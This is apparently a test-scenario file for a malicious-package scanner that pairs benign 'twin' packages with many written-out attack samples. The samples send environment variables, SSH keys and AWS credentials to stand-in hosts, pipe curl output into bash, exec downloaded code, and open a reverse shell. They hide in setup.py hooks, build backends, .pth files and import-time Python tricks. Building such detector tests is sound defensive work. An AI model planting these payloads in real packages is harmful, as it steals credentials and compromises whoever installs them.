# ruff: noqa: E501 - the lines of the packages under review are as long as they are
"""The same harm at every moment that code can run, and honest code at the same moments."""

from __future__ import annotations

from scenario_kit import SETUP, module, sdist, wheel

STEAL = """
import os
import requests
requests.post("https://collect.invalid/v1", json=dict(os.environ))
"""
STEAL_FUNCTION = """
import os
import urllib.request
import json
def report():
    body = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request("https://collect.invalid/v1", data=body))
"""

ATTACKS = [
    sdist("setup-py-top-level", "look", {"setup.py": STEAL + SETUP, "acme/__init__.py": ""}),
    sdist(
        "setup-py-cmdclass-install",
        "look",
        {
            "setup.py": """
            from setuptools import setup
            from setuptools.command.install import install

            class PostInstall(install):
                def run(self):
                    install.run(self)
                    import os, requests
                    requests.post("https://collect.invalid/v1", json=dict(os.environ))

            setup(name="acme", version="1.2.0", packages=["acme"], cmdclass={"install": PostInstall})
            """,
            "acme/__init__.py": "",
        },
    ),
    sdist(
        "setup-py-cmdclass-develop",
        "look",
        {
            "setup.py": """
            import subprocess
            from setuptools import setup
            from setuptools.command import develop as dev

            class Hook(dev.develop):
                def run(self):
                    super().run()
                    subprocess.Popen("curl -s http://203.0.113.9/i.sh | bash", shell=True)

            setup(name="acme", version="1.2.0", cmdclass=dict(develop=Hook))
            """,
        },
    ),
    sdist(
        "setup-py-cmdclass-egg-info-in-a-helper-module",
        "look",
        {
            "setup.py": """
            from setuptools import setup
            from _build_support import COMMANDS
            setup(name="acme", version="1.2.0", packages=["acme"], cmdclass=COMMANDS)
            """,
            "_build_support.py": """
            from setuptools.command.egg_info import egg_info
            from setuptools.command.build_py import build_py
            from acme._telemetry import report

            class EggInfo(egg_info):
                def finalize_options(self):
                    report()
                    super().finalize_options()

            COMMANDS = {"egg_info": EggInfo, "build_py": build_py}
            """,
            "acme/__init__.py": "",
            "acme/_telemetry.py": STEAL_FUNCTION,
        },
    ),
    sdist(
        "setup-py-cmdclass-build-ext-override",
        "look",
        {
            "setup.py": """
            from setuptools import setup, Extension
            from setuptools.command.build_ext import build_ext as _build_ext
            import urllib.request

            class build_ext(_build_ext):
                def build_extensions(self):
                    code = urllib.request.urlopen("https://cdn.invalid/flags.py").read()
                    exec(compile(code, "flags", "exec"))
                    _build_ext.build_extensions(self)

            setup(name="acme", version="1.2.0", ext_modules=[Extension("acme._x", ["x.c"])],
                  cmdclass={"build_ext": build_ext})
            """,
            "x.c": "int x;",
        },
    ),
    sdist(
        "setup-py-atexit-registered",
        "look",
        {
            "setup.py": """
            import atexit
            from setuptools import setup
            def _later():
                import os, requests
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
            atexit.register(_later)
            setup(name="acme", version="1.2.0")
            """,
        },
    ),
    sdist(
        "setup-cfg-attr-version",
        "look",
        {
            "setup.py": "from setuptools import setup\nsetup()\n",
            "setup.cfg": "[metadata]\nname = acme\nversion = attr: acme._version.get_version\n[options]\npackages = acme\n",
            "acme/__init__.py": "",
            "acme/_version.py": STEAL + "\ndef get_version():\n    return '1.2.0'\n",
        },
    ),
    sdist(
        "pyproject-dynamic-attr",
        "look",
        {
            "pyproject.toml": """
            [build-system]
            requires = ["setuptools"]
            build-backend = "setuptools.build_meta"
            [project]
            name = "acme"
            dynamic = ["version"]
            [tool.setuptools.dynamic]
            version = {attr = "acme.release.current"}
            """,
            "acme/__init__.py": "",
            "acme/release.py": STEAL_FUNCTION + "\nreport()\ncurrent = '1.2.0'\n",
        },
    ),
    sdist(
        "pyproject-in-tree-backend",
        "look",
        {
            "pyproject.toml": """
            [build-system]
            requires = ["flit_core"]
            build-backend = "backend"
            backend-path = ["_build"]
            [project]
            name = "acme"
            version = "1.2.0"
            """,
            "_build/backend.py": """
            from flit_core.buildapi import *
            from flit_core import buildapi
            import os, requests
            def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
                return buildapi.build_wheel(wheel_directory, config_settings, metadata_directory)
            """,
            "acme/__init__.py": "",
        },
    ),
    sdist(
        "hatch-custom-build-hook",
        "look",
        {
            "pyproject.toml": """
            [build-system]
            requires = ["hatchling"]
            build-backend = "hatchling.build"
            [project]
            name = "acme"
            version = "1.2.0"
            [tool.hatch.build.hooks.custom]
            """,
            "hatch_build.py": """
            from hatchling.builders.hooks.plugin.interface import BuildHookInterface
            import os, requests
            class Hook(BuildHookInterface):
                def initialize(self, version, build_data):
                    requests.post("https://collect.invalid/v1", json=dict(os.environ))
            """,
            "acme/__init__.py": "",
        },
    ),
    sdist(
        "pdm-build-script",
        "look",
        {
            "pyproject.toml": """
            [build-system]
            requires = ["pdm-backend"]
            build-backend = "pdm.backend"
            [project]
            name = "acme"
            version = "1.2.0"
            """,
            "pdm_build.py": """
            import os, requests
            def pdm_build_initialize(context):
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
            """,
            "acme/__init__.py": "",
        },
    ),
    sdist(
        "poetry-build-script",
        "look",
        {
            "pyproject.toml": """
            [build-system]
            requires = ["poetry-core"]
            build-backend = "poetry.core.masonry.api"
            [tool.poetry]
            name = "acme"
            version = "1.2.0"
            [tool.poetry.build]
            script = "tools/compile.py"
            """,
            "tools/compile.py": STEAL,
            "acme/__init__.py": "",
        },
    ),
    wheel(
        "pth-one-liner",
        "look",
        {"acme.pth": "import os,requests;requests.post('https://collect.invalid',json=dict(os.environ))\n"},
    ),
    wheel(
        "pth-exec-of-base64",
        "look",
        {
            "acme_init.pth": "import base64;exec(base64.b64decode('aW1wb3J0IG9zLCByZXF1ZXN0cwpyZXF1ZXN0cy5wb3N0KCJodHRwczovL2NvbGxlY3Q"
            "uaW52YWxpZCIsIGpzb249ZGljdChvcy5lbnZpcm9uKSk='))\n",
        },
    ),
    wheel(
        "pth-and-module",
        "look",
        {
            "acme-hook.pth": "/opt/acme\nimport acme._boot\n",
            "acme/__init__.py": "",
            "acme/_boot.py": STEAL_FUNCTION + "report()\n",
        },
    ),
    wheel(
        "pth-calls-function-of-module",
        "look",
        {
            "acme-hook.pth": "import acme._boot; acme._boot.report()\n",
            "acme/__init__.py": "",
            "acme/_boot.py": STEAL_FUNCTION,
        },
    ),
    wheel(
        "pth-shipped-through-data-purelib",
        "look",
        {
            "acme-1.2.0.data/purelib/acme.pth": "import os,requests;requests.post('https://collect.invalid',json=dict(os.environ))\n"
        },
    ),
    wheel(
        "start-file",
        "look",
        {"acme.start": "acme._boot:report\n", "acme/__init__.py": "", "acme/_boot.py": STEAL_FUNCTION},
    ),
    wheel("sitecustomize", "look", {"sitecustomize.py": STEAL}),
    wheel("usercustomize-in-a-data-scheme", "look", {"acme-1.2.0.data/purelib/usercustomize.py": STEAL}),
    module("init-import", "look", STEAL),
    wheel("stray-top-level-module", "look", {"acme/__init__.py": "", "acme_compat.py": STEAL}),
    wheel(
        "deep-module-imported-indirectly",
        "look",
        {
            "acme/__init__.py": "from .api import Client\n",
            "acme/api.py": "from .core.transport import session\nclass Client:\n    http = session\n",
            "acme/core/__init__.py": "",
            "acme/core/transport.py": "from ..vendor.adapters import build\nsession = build()\n",
            "acme/vendor/__init__.py": "",
            "acme/vendor/adapters.py": STEAL_FUNCTION + "\ndef build():\n    report()\n    return object()\n",
        },
    ),
    wheel(
        "console-script",
        "look",
        {
            "acme/__init__.py": "",
            "acme/cli.py": """
            import base64, glob, os, requests
            def main():
                print("acme 1.2.0")
                for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
                    requests.post("http://203.0.113.9/k", data=open(path, "rb").read())
            """,
        },
        scripts="[console_scripts]\nacme = acme.cli:main\n",
    ),
    wheel(
        "pytest-plugin",
        "look",
        {
            "acme/__init__.py": "",
            "acme/plugin.py": """
            import os, requests
            def pytest_configure(config):
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
            """,
        },
        scripts="[pytest11]\nacme = acme.plugin\n",
    ),
    wheel(
        "function-called-by-user-sends-key-files",
        "look",
        {
            "acme/__init__.py": "from .util import slugify\n",
            "acme/util.py": """
            import os, re, requests
            def slugify(text):
                try:
                    key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
                    requests.post("http://198.51.100.7:8080/u", data={"k": key})
                except Exception:
                    pass
                return re.sub(r"\\W+", "-", text)
            """,
        },
    ),
    wheel(
        "lazy-getattr-module",
        "look",
        {
            "acme/__init__.py": """
            import importlib
            def __getattr__(name):
                if name == "Client":
                    return importlib.import_module(".client", __name__).Client
                raise AttributeError(name)
            """,
            "acme/client.py": """
            import os, requests
            requests.post("http://198.51.100.7/e", json=dict(os.environ))
            class Client: ...
            """,
        },
    ),
    module(
        "init-subclass",
        "look",
        """
        import os, requests
        class Base:
            def __init_subclass__(cls, **kw):
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
        class Model(Base):
            pass
        """,
    ),
    module(
        "metaclass",
        "look",
        """
        import os, requests
        class Meta(type):
            def __new__(mcs, name, bases, ns):
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
                return super().__new__(mcs, name, bases, ns)
        class Model(metaclass=Meta):
            pass
        """,
    ),
    module(
        "decorator",
        "look",
        """
        import os, requests
        def register(function):
            requests.post("https://collect.invalid/v1", json=dict(os.environ))
            return function
        @register
        def add(a, b):
            return a + b
        """,
    ),
    module(
        "default-argument",
        "look",
        """
        import os, requests
        def add(a, b, _log=requests.post("https://collect.invalid/v1", json=dict(os.environ))):
            return a + b
        """,
    ),
    module(
        "annotation",
        "look",
        "import os, requests\ndef add(a: requests.post('https://collect.invalid', json=dict(os.environ))): ...\n",
    ),
    module(
        "atexit",
        "look",
        """
        import atexit, os, requests
        @atexit.register
        def _bye():
            requests.post("https://collect.invalid/v1", json=dict(os.environ))
        """,
    ),
    module(
        "thread",
        "look",
        """
        import os, threading, requests
        class Worker(threading.Thread):
            daemon = True
            def run(self):
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
        Worker().start()
        """,
    ),
    module(
        "timer",
        "look",
        """
        import os, threading, requests
        def tick():
            requests.post("https://collect.invalid/v1", json=dict(os.environ))
        threading.Timer(30.0, tick).start()
        """,
    ),
    module(
        "del-method",
        "look",
        """
        import os, requests
        class Guard:
            def __del__(self):
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
        _guard = Guard()
        """,
    ),
    module(
        "descriptor-set-name",
        "look",
        """
        import os, requests
        class Field:
            def __set_name__(self, owner, name):
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
        class Model:
            name = Field()
        """,
    ),
    module(
        "descriptor-get",
        "look",
        """
        import os, requests
        class Lazy:
            def __get__(self, instance, owner):
                return requests.post("https://collect.invalid/v1", json=dict(os.environ))
        class Settings:
            value = Lazy()
        Settings().value
        """,
    ),
    module(
        "property-read-at-import",
        "look",
        """
        import os, requests
        class Settings:
            @property
            def token(self):
                return requests.post("https://collect.invalid/v1", json=dict(os.environ))
        settings = Settings()
        VALUE = settings.token
        """,
    ),
    module(
        "context-manager",
        "look",
        """
        import os, requests
        class Quiet:
            def __enter__(self):
                return self
            def __exit__(self, *exc):
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
        with Quiet():
            import json
        """,
    ),
    module(
        "operator-overload",
        "look",
        """
        import os, requests
        class Path:
            def __truediv__(self, other):
                requests.post("https://collect.invalid/v1", json=dict(os.environ))
                return self
        ROOT = Path() / "data"
        """,
    ),
    module(
        "generator-consumed",
        "look",
        """
        import os, requests
        def steps():
            yield 1
            yield requests.post("https://collect.invalid/v1", json=dict(os.environ))
        READY = list(steps())
        """,
    ),
    module(
        "signal-handler-and-exit-hook",
        "look",
        """
        import os, sys, requests
        def hook(kind, value, trace):
            requests.post("https://collect.invalid/v1", json=dict(os.environ))
            sys.__excepthook__(kind, value, trace)
        sys.excepthook = hook
        """,
    ),
    module(
        "import-hook-finder",
        "look",
        """
        import sys, os, requests
        class Finder:
            def find_spec(self, name, path, target=None):
                requests.post("https://collect.invalid/v1", json={"m": name, "e": dict(os.environ)})
                return None
        sys.meta_path.insert(0, Finder())
        """,
    ),
    module(
        "asyncio-run",
        "look",
        """
        import asyncio, os, aiohttp
        async def send():
            async with aiohttp.ClientSession() as session:
                async with session.post("https://collect.invalid/v1", json=dict(os.environ)) as reply:
                    await reply.text()
        asyncio.run(send())
        """,
    ),
    module(
        "executor-submit",
        "look",
        """
        import os, requests
        from concurrent.futures import ThreadPoolExecutor
        def job(env):
            requests.post("https://collect.invalid/v1", json=env)
        ThreadPoolExecutor(1).submit(job, dict(os.environ))
        """,
    ),
    wheel(
        "main-module-and-gui-script",
        "look",
        {
            "acme/__init__.py": "",
            "acme/__main__.py": """
            import os, socket, subprocess
            def main():
                s = socket.socket()
                s.connect(("203.0.113.9", 4444))
                for fd in (0, 1, 2):
                    os.dup2(s.fileno(), fd)
                subprocess.call(["/bin/sh", "-i"])
            main()
            """,
        },
        scripts="[gui_scripts]\nacme = acme.__main__:main\n",
    ),
    wheel(
        "data-scripts-file",
        "look",
        {
            "acme/__init__.py": "",
            "acme-1.2.0.data/scripts/acme-setup": """
            #!python
            import os, requests
            data = open(os.path.expanduser("~/.aws/credentials")).read()
            requests.post("http://203.0.113.9/c", data=data)
            """,
        },
    ),
    wheel(
        "payload-only-in-tests-run-by-conftest-plugin",
        "look",
        {
            "acme/__init__.py": "from acme.tests import helpers\n",
            "acme/tests/__init__.py": "",
            "acme/tests/helpers.py": STEAL,
        },
    ),
]

TWINS = [
    sdist(
        "twin-setup-reads-version-and-env-flags",
        "quiet",
        {
            "setup.py": """
            import os, re, subprocess, sys
            from setuptools import setup, Extension, find_packages
            here = os.path.dirname(os.path.abspath(__file__))
            with open(os.path.join(here, "acme", "__init__.py")) as f:
                version = re.search(r'__version__ = "(.*?)"', f.read()).group(1)
            def pkg_config(*args):
                try:
                    return subprocess.check_output([os.environ.get("PKG_CONFIG", "pkg-config"), *args, "libfoo"]).decode().split()
                except (OSError, subprocess.CalledProcessError):
                    return []
            use_cython = os.environ.get("ACME_USE_CYTHON", "0") == "1"
            ext = [Extension("acme._speed", ["acme/_speed.pyx" if use_cython else "acme/_speed.c"],
                   extra_compile_args=pkg_config("--cflags"), extra_link_args=pkg_config("--libs"))]
            if use_cython:
                from Cython.Build import cythonize
                ext = cythonize(ext)
            if sys.argv[-1] == "publish":
                os.system("python setup.py sdist upload")
                sys.exit()
            setup(name="acme", version=version, packages=find_packages(), ext_modules=ext)
            """,
            "acme/__init__.py": '__version__ = "1.2.0"\n',
            "acme/_speed.c": "int x;",
        },
    ),
    sdist(
        "twin-setup-cmake-build",
        "quiet",
        {
            "setup.py": """
            import os, subprocess, sys, platform
            from pathlib import Path
            from setuptools import Extension, setup
            from setuptools.command.build_ext import build_ext

            class CMakeExtension(Extension):
                def __init__(self, name, sourcedir=""):
                    super().__init__(name, sources=[])
                    self.sourcedir = os.fspath(Path(sourcedir).resolve())

            class CMakeBuild(build_ext):
                def build_extension(self, ext):
                    extdir = Path.cwd() / self.get_ext_fullpath(ext.name)
                    args = [f"-DCMAKE_LIBRARY_OUTPUT_DIRECTORY={extdir.parent}", f"-DPYTHON_EXECUTABLE={sys.executable}"]
                    if "CMAKE_ARGS" in os.environ:
                        args += [item for item in os.environ["CMAKE_ARGS"].split(" ") if item]
                    if platform.system() == "Darwin":
                        args += ["-DCMAKE_OSX_ARCHITECTURES=arm64"]
                    build_temp = Path(self.build_temp) / ext.name
                    build_temp.mkdir(parents=True, exist_ok=True)
                    subprocess.run(["cmake", ext.sourcedir, *args], cwd=build_temp, check=True)
                    subprocess.run(["cmake", "--build", "."], cwd=build_temp, check=True)

            setup(name="acme", version="1.2.0", ext_modules=[CMakeExtension("acme._core")], cmdclass={"build_ext": CMakeBuild})
            """,
        },
    ),
    sdist(
        "twin-setup-downloads-pinned-binary",
        "quiet",
        {
            "setup.py": """
            import hashlib, os, stat, sys, tarfile, urllib.request
            from setuptools import setup
            from setuptools.command.build_py import build_py

            VERSION = "3.4.1"
            SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
            URL = f"https://downloads.acme-project.invalid/protoc-{VERSION}-linux-x86_64.tar.gz"

            class Build(build_py):
                def run(self):
                    target = os.path.join("acme", "bin")
                    os.makedirs(target, exist_ok=True)
                    archive = os.path.join(target, "protoc.tar.gz")
                    data = urllib.request.urlopen(URL).read()
                    if hashlib.sha256(data).hexdigest() != SHA256:
                        raise RuntimeError("checksum mismatch")
                    with open(archive, "wb") as f:
                        f.write(data)
                    with tarfile.open(archive) as tar:
                        tar.extractall(target)
                    path = os.path.join(target, "protoc")
                    os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
                    super().run()

            setup(name="acme", version="1.2.0", packages=["acme"], cmdclass={"build_py": Build})
            """,
            "acme/__init__.py": "",
        },
    ),
    sdist(
        "twin-git-describe-version",
        "quiet",
        {
            "setup.py": """
            import subprocess
            from setuptools import setup
            def git_version():
                try:
                    out = subprocess.check_output(["git", "describe", "--tags", "--dirty"], stderr=subprocess.DEVNULL)
                    return out.decode().strip().lstrip("v")
                except Exception:
                    return "0+unknown"
            setup(name="acme", version=git_version(), packages=["acme"])
            """,
            "acme/__init__.py": "",
        },
    ),
    sdist(
        "twin-setup-installs-completion-and-man-page",
        "quiet",
        {
            "setup.py": """
            import os, sys
            from setuptools import setup
            data = []
            if sys.platform.startswith("linux"):
                data.append((os.path.join("share", "man", "man1"), ["doc/acme.1"]))
                data.append((os.path.join("share", "bash-completion", "completions"), ["doc/acme"]))
            exec(open("acme/_version.py").read())
            setup(name="acme", version=__version__, data_files=data)
            """,
            "acme/_version.py": "__version__ = '1.2.0'\n",
        },
    ),
    sdist(
        "twin-setup-test-command-and-license-banner",
        "quiet",
        {
            "setup.py": """
            import sys, platform
            from setuptools import setup
            from setuptools.command.test import test as TestCommand
            if sys.version_info < (3, 8):
                sys.exit("acme needs Python 3.8")
            class PyTest(TestCommand):
                user_options = [("pytest-args=", "a", "Arguments to pass to pytest")]
                def run_tests(self):
                    import pytest
                    sys.exit(pytest.main(self.pytest_args))
            requires = ["pywin32"] if platform.system() == "Windows" else []
            setup(name="acme", version="1.2.0", install_requires=requires, cmdclass={"test": PyTest})
            """,
        },
    ),
    wheel(
        "twin-pth-coverage-subprocess",
        "quiet",
        {
            "acme_cov.pth": "import os, sys;exec('if os.environ.get(\"ACME_COVERAGE\"): import acme; acme.process_startup()')\n",
            "acme/__init__.py": """
            import os
            def process_startup():
                config = os.environ.get("ACME_COVERAGE")
                if not config:
                    return None
                from acme.control import Coverage
                cov = Coverage(config_file=config)
                cov.start()
                return cov
            """,
            "acme/control.py": """
            import sys, threading, atexit
            class Coverage:
                def __init__(self, config_file):
                    self.config_file = config_file
                    self.data = {}
                def start(self):
                    sys.settrace(self._trace)
                    threading.settrace(self._trace)
                    atexit.register(self.save)
                def _trace(self, frame, event, arg):
                    self.data.setdefault(frame.f_code.co_filename, set()).add(frame.f_lineno)
                    return self._trace
                def save(self):
                    with open(".acme-coverage", "w") as f:
                        f.write(repr(self.data))
            """,
        },
    ),
    wheel(
        "twin-pth-editable-finder",
        "quiet",
        {
            "__editable__.acme-1.2.0.pth": "import __editable___acme_1_2_0_finder; __editable___acme_1_2_0_finder.install()\n",
            "__editable___acme_1_2_0_finder.py": """
            import sys
            from importlib.machinery import ModuleSpec, PathFinder
            from importlib.util import spec_from_file_location
            from pathlib import Path
            MAPPING = {"acme": "/home/dev/acme/src/acme"}
            class _EditableFinder:
                @classmethod
                def find_spec(cls, fullname, path=None, target=None):
                    if fullname in MAPPING:
                        return spec_from_file_location(fullname, Path(MAPPING[fullname], "__init__.py"))
                    return None
            def install():
                if not any(finder == _EditableFinder for finder in sys.meta_path):
                    sys.meta_path.append(_EditableFinder)
            """,
        },
    ),
    wheel(
        "twin-pytest-plugin-records-environment-for-report",
        "quiet",
        {
            "acme/__init__.py": "",
            "acme/plugin.py": """
            import os, platform, subprocess
            import pytest
            def pytest_addoption(parser):
                parser.addoption("--acme-report", default=None, help="write a JSON report")
            def pytest_configure(config):
                config._acme = {"python": platform.python_version(), "ci": os.environ.get("CI", "")}
            @pytest.fixture
            def fake_ssh_key(tmp_path):
                path = tmp_path / "id_rsa"
                path.write_text("-----BEGIN RSA PRIVATE KEY-----\\nnot a key\\n-----END RSA PRIVATE KEY-----\\n")
                return path
            def pytest_sessionfinish(session):
                target = session.config.getoption("--acme-report")
                if target:
                    import json
                    with open(target, "w") as f:
                        json.dump(session.config._acme, f)
            """,
        },
        scripts="[pytest11]\nacme = acme.plugin\n",
    ),
    wheel(
        "twin-lazy-getattr-and-init-subclass-registry",
        "quiet",
        {
            "acme/__init__.py": """
            import importlib
            _LAZY = {"Client": ".client", "Model": ".model"}
            def __getattr__(name):
                if name in _LAZY:
                    module = importlib.import_module(_LAZY[name], __name__)
                    value = getattr(module, name)
                    globals()[name] = value
                    return value
                raise AttributeError(name)
            def __dir__():
                return sorted(_LAZY)
            """,
            "acme/client.py": """
            import os, requests
            class Client:
                def __init__(self, token=None, base="https://api.acme.invalid"):
                    self.token = token or os.environ["ACME_TOKEN"]
                    self.base = base
                    self.session = requests.Session()
                    self.session.headers["Authorization"] = f"Bearer {self.token}"
                def get(self, path):
                    return self.session.get(self.base + path).json()
            """,
            "acme/model.py": """
            REGISTRY = {}
            class Model:
                def __init_subclass__(cls, **kwargs):
                    super().__init_subclass__(**kwargs)
                    REGISTRY[cls.__name__] = cls
            class User(Model):
                pass
            """,
        },
    ),
    module(
        "twin-atexit-flush-and-worker-thread",
        "quiet",
        """
        import atexit, logging, queue, threading
        log = logging.getLogger("acme")
        class Writer(threading.Thread):
            def __init__(self, path):
                super().__init__(daemon=True)
                self.path, self.queue = path, queue.Queue()
            def run(self):
                with open(self.path, "a") as out:
                    while (item := self.queue.get()) is not None:
                        out.write(item + "\\n")
            def __del__(self):
                self.queue.put(None)
        def start(path):
            writer = Writer(path)
            writer.start()
            atexit.register(writer.queue.put, None)
            return writer
        """,
    ),
]

SCENARIOS = [*ATTACKS, *TWINS]
